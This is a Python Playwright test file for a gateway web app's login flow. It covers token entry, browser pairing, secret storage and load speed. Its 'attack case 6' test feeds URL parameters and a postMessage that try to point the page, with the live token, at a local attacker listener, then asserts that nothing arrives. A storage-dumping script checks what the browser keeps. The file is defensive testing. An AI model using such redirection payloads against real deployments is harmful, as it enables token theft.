"""How a browser gets in, and what it keeps (rows S0.3-14, S1.B-7.2; attack cases 5 and 6)."""

import asyncio
import json
import socket
from pathlib import Path

from playwright.async_api import Page, expect

from tests.cli.command import ask_async
from tests.e2e import page_guests
from tests.support.browser import PHONE, Tab, at_the_page, chromium, visitor
from tests.support.daemon import Daemon

STRONG = "a-long-enough-token-for-the-network-4c1f"
OUTSIDE = f"""
[gateway]
host = "0.0.0.0"

[gateway.auth]
token = "{STRONG}"

[gateway.tls]
enabled = true
"""
"""A gateway that others can reach, encrypted."""

EVERYTHING_STORED = """async () => {
    const open = indexedDB.open("homarus");
    const database = await new Promise((resolve) => { open.onsuccess = () => resolve(open.result); });
    const read = (store) => new Promise((resolve) => {
        const request = database.transaction(store).objectStore(store).getAll();
        request.onsuccess = () => resolve(request.result);
    });
    const device = await read("device");
    const key = device.find((value) => value.pair).pair.privateKey;
    const exported = await crypto.subtle.exportKey("pkcs8", key).then(() => true, () => false);
    return JSON.stringify([device, await read("outbox"), { ...localStorage }, { ...sessionStorage },
        document.cookie, location.href, history.state, exported]);
}"""


async def entered(page: Page) -> None:
    """Wait until the page is in."""
    await expect(page.get_by_role("textbox", name="Message", exact=True)).to_be_visible()


def own_address() -> str:
    """An address of this machine that is not loopback. Source: ip-route(8)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("192.0.2.1", 9))
        return str(probe.getsockname()[0])


async def test_without_a_token_the_page_asks_for_it_and_says_when_it_is_wrong(shared_daemon: Daemon) -> None:
    async with at_the_page(shared_daemon.url, "/", PHONE) as tab:
        page = tab.page
        await expect(page.get_by_role("heading", level=1)).to_have_text("Connect to the gateway")
        await tab.shot("login")
        await tab.accessible()
        await page.get_by_label("Token or password").fill("wrong")
        await page.keyboard.press("Enter")
        await expect(page.get_by_role("alert")).to_contain_text("mismatch")
        await page.get_by_label("Token or password").fill(shared_daemon.token)
        await page.get_by_role("button", name="Connect").click()
        await entered(page)


async def test_a_gateway_without_a_secret_asks_for_none(tmp_path: Path) -> None:
    async with (
        Daemon(tmp_path, token=None, args=["--auth", "none"]) as daemon,
        at_the_page(daemon.url) as tab,
    ):
        await entered(tab.page)


async def test_the_secret_is_used_once_and_kept_nowhere(shared_daemon: Daemon) -> None:
    async with chromium() as browser, visitor(browser) as context:
        tab = await Tab.open(context, shared_daemon.url, f"/#token={shared_daemon.token}")
        await entered(tab.page)
        kept: str = await tab.page.evaluate(EVERYTHING_STORED)
        assert shared_daemon.token not in kept
        assert json.loads(kept)[-1] is False, "the device key can be taken out of the browser"
        length: int = await tab.page.evaluate("history.length")
        await tab.page.reload()
        await entered(tab.page)
        assert await tab.page.evaluate("history.length") == length
        second = await Tab.open(context, shared_daemon.url)
        await entered(second.page)
        assert all(shared_daemon.token not in url for url in tab.requests + second.requests)
        await tab.check()
        await second.check()


async def test_a_removed_browser_is_out_at_once_and_told_why(daemon: Daemon) -> None:
    async with chromium() as browser, visitor(browser) as context:
        tab = await Tab.open(context, daemon.url, f"/#token={daemon.token}")
        await entered(tab.page)
        async with await page_guests.owner(daemon) as wire:
            device = (await wire.call("device.pair.list"))["paired"][0]
            await wire.call("device.pair.remove", {"deviceId": device["deviceId"]})
        await expect(tab.page.get_by_role("alert")).to_contain_text("no longer paired")
        await tab.page.get_by_label("Token or password").fill(daemon.token)
        await tab.page.keyboard.press("Enter")
        await entered(tab.page)
        await tab.check()


async def test_from_elsewhere_a_browser_waits_for_an_approval_and_goes_on_by_itself(tmp_path: Path) -> None:
    async with (
        Daemon(tmp_path, token=None, config=OUTSIDE) as daemon,
        chromium() as browser,
        visitor(browser, PHONE, ignore_https_errors=True) as context,
    ):
        origin = f"https://{own_address()}:{daemon.port}"
        tab = await Tab.open(context, origin, f"/#token={STRONG}")
        await expect(tab.page.get_by_role("heading", level=1)).to_have_text("Approve this browser")
        await tab.shot("pairing")
        await tab.accessible()
        command = await tab.page.locator(".command code").inner_text()
        approved = await ask_async(daemon, *command.split()[1:])
        assert approved.code == 0, approved
        await entered(tab.page)
        assert STRONG not in await tab.page.evaluate(EVERYTHING_STORED)
        await tab.page.reload()
        await entered(tab.page)
        await tab.check()


async def test_no_address_makes_the_page_talk_to_anybody_else(shared_daemon: Daemon) -> None:
    """Attack case 6: not one byte reaches the attacker's listener."""
    heard: list[bytes] = []

    async def listen(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heard.append(await reader.read(4096))
        writer.close()

    attacker = await asyncio.start_server(listen, "127.0.0.1", 0)
    evil = f"ws://127.0.0.1:{attacker.sockets[0].getsockname()[1]}"
    token = shared_daemon.token
    paths = [
        f"/?gatewayUrl={evil}&url={evil}&gateway={evil}#token={token}&gatewayUrl={evil}",
        f"/?token={token}#gatewayUrl={evil}&token={token}",
    ]
    async with attacker, chromium() as browser:
        for path in paths:
            async with visitor(browser) as context:
                tab = await Tab.open(context, shared_daemon.url, path)
                await entered(tab.page)
                await tab.page.evaluate(
                    "(url) => window.postMessage({ type: 'gatewayUrl', gatewayUrl: url, url }, '*')", evil
                )
                blocked = await tab.page.evaluate(
                    "url => { try { new WebSocket(url) } catch (error) { return error.name } return '' }",
                    evil,
                )
                await tab.page.get_by_role("textbox", name="Message", exact=True).fill("what is 1+1?")
                await tab.page.keyboard.press("Enter")
                await expect(tab.page.get_by_role("article", name="Answer").first).to_contain_text("2")
                # Even a script of an attacker could not: the policy of the page forbids it.
                violations: list[str] = await tab.page.evaluate("window.violations")
                assert blocked == "SecurityError" or any("connect-src" in text for text in violations)
    assert heard == []


async def test_the_first_paint_of_a_warm_gateway_takes_less_than_a_second(shared_daemon: Daemon) -> None:
    painted = float("inf")
    async with chromium() as browser:
        for _ in range(2):
            async with visitor(browser) as context:
                tab = await Tab.open(context, shared_daemon.url, f"/#token={shared_daemon.token}")
                await entered(tab.page)
                painted = await tab.page.evaluate(
                    "performance.getEntriesByName('first-contentful-paint')[0].startTime"
                )
    assert painted <= 1000
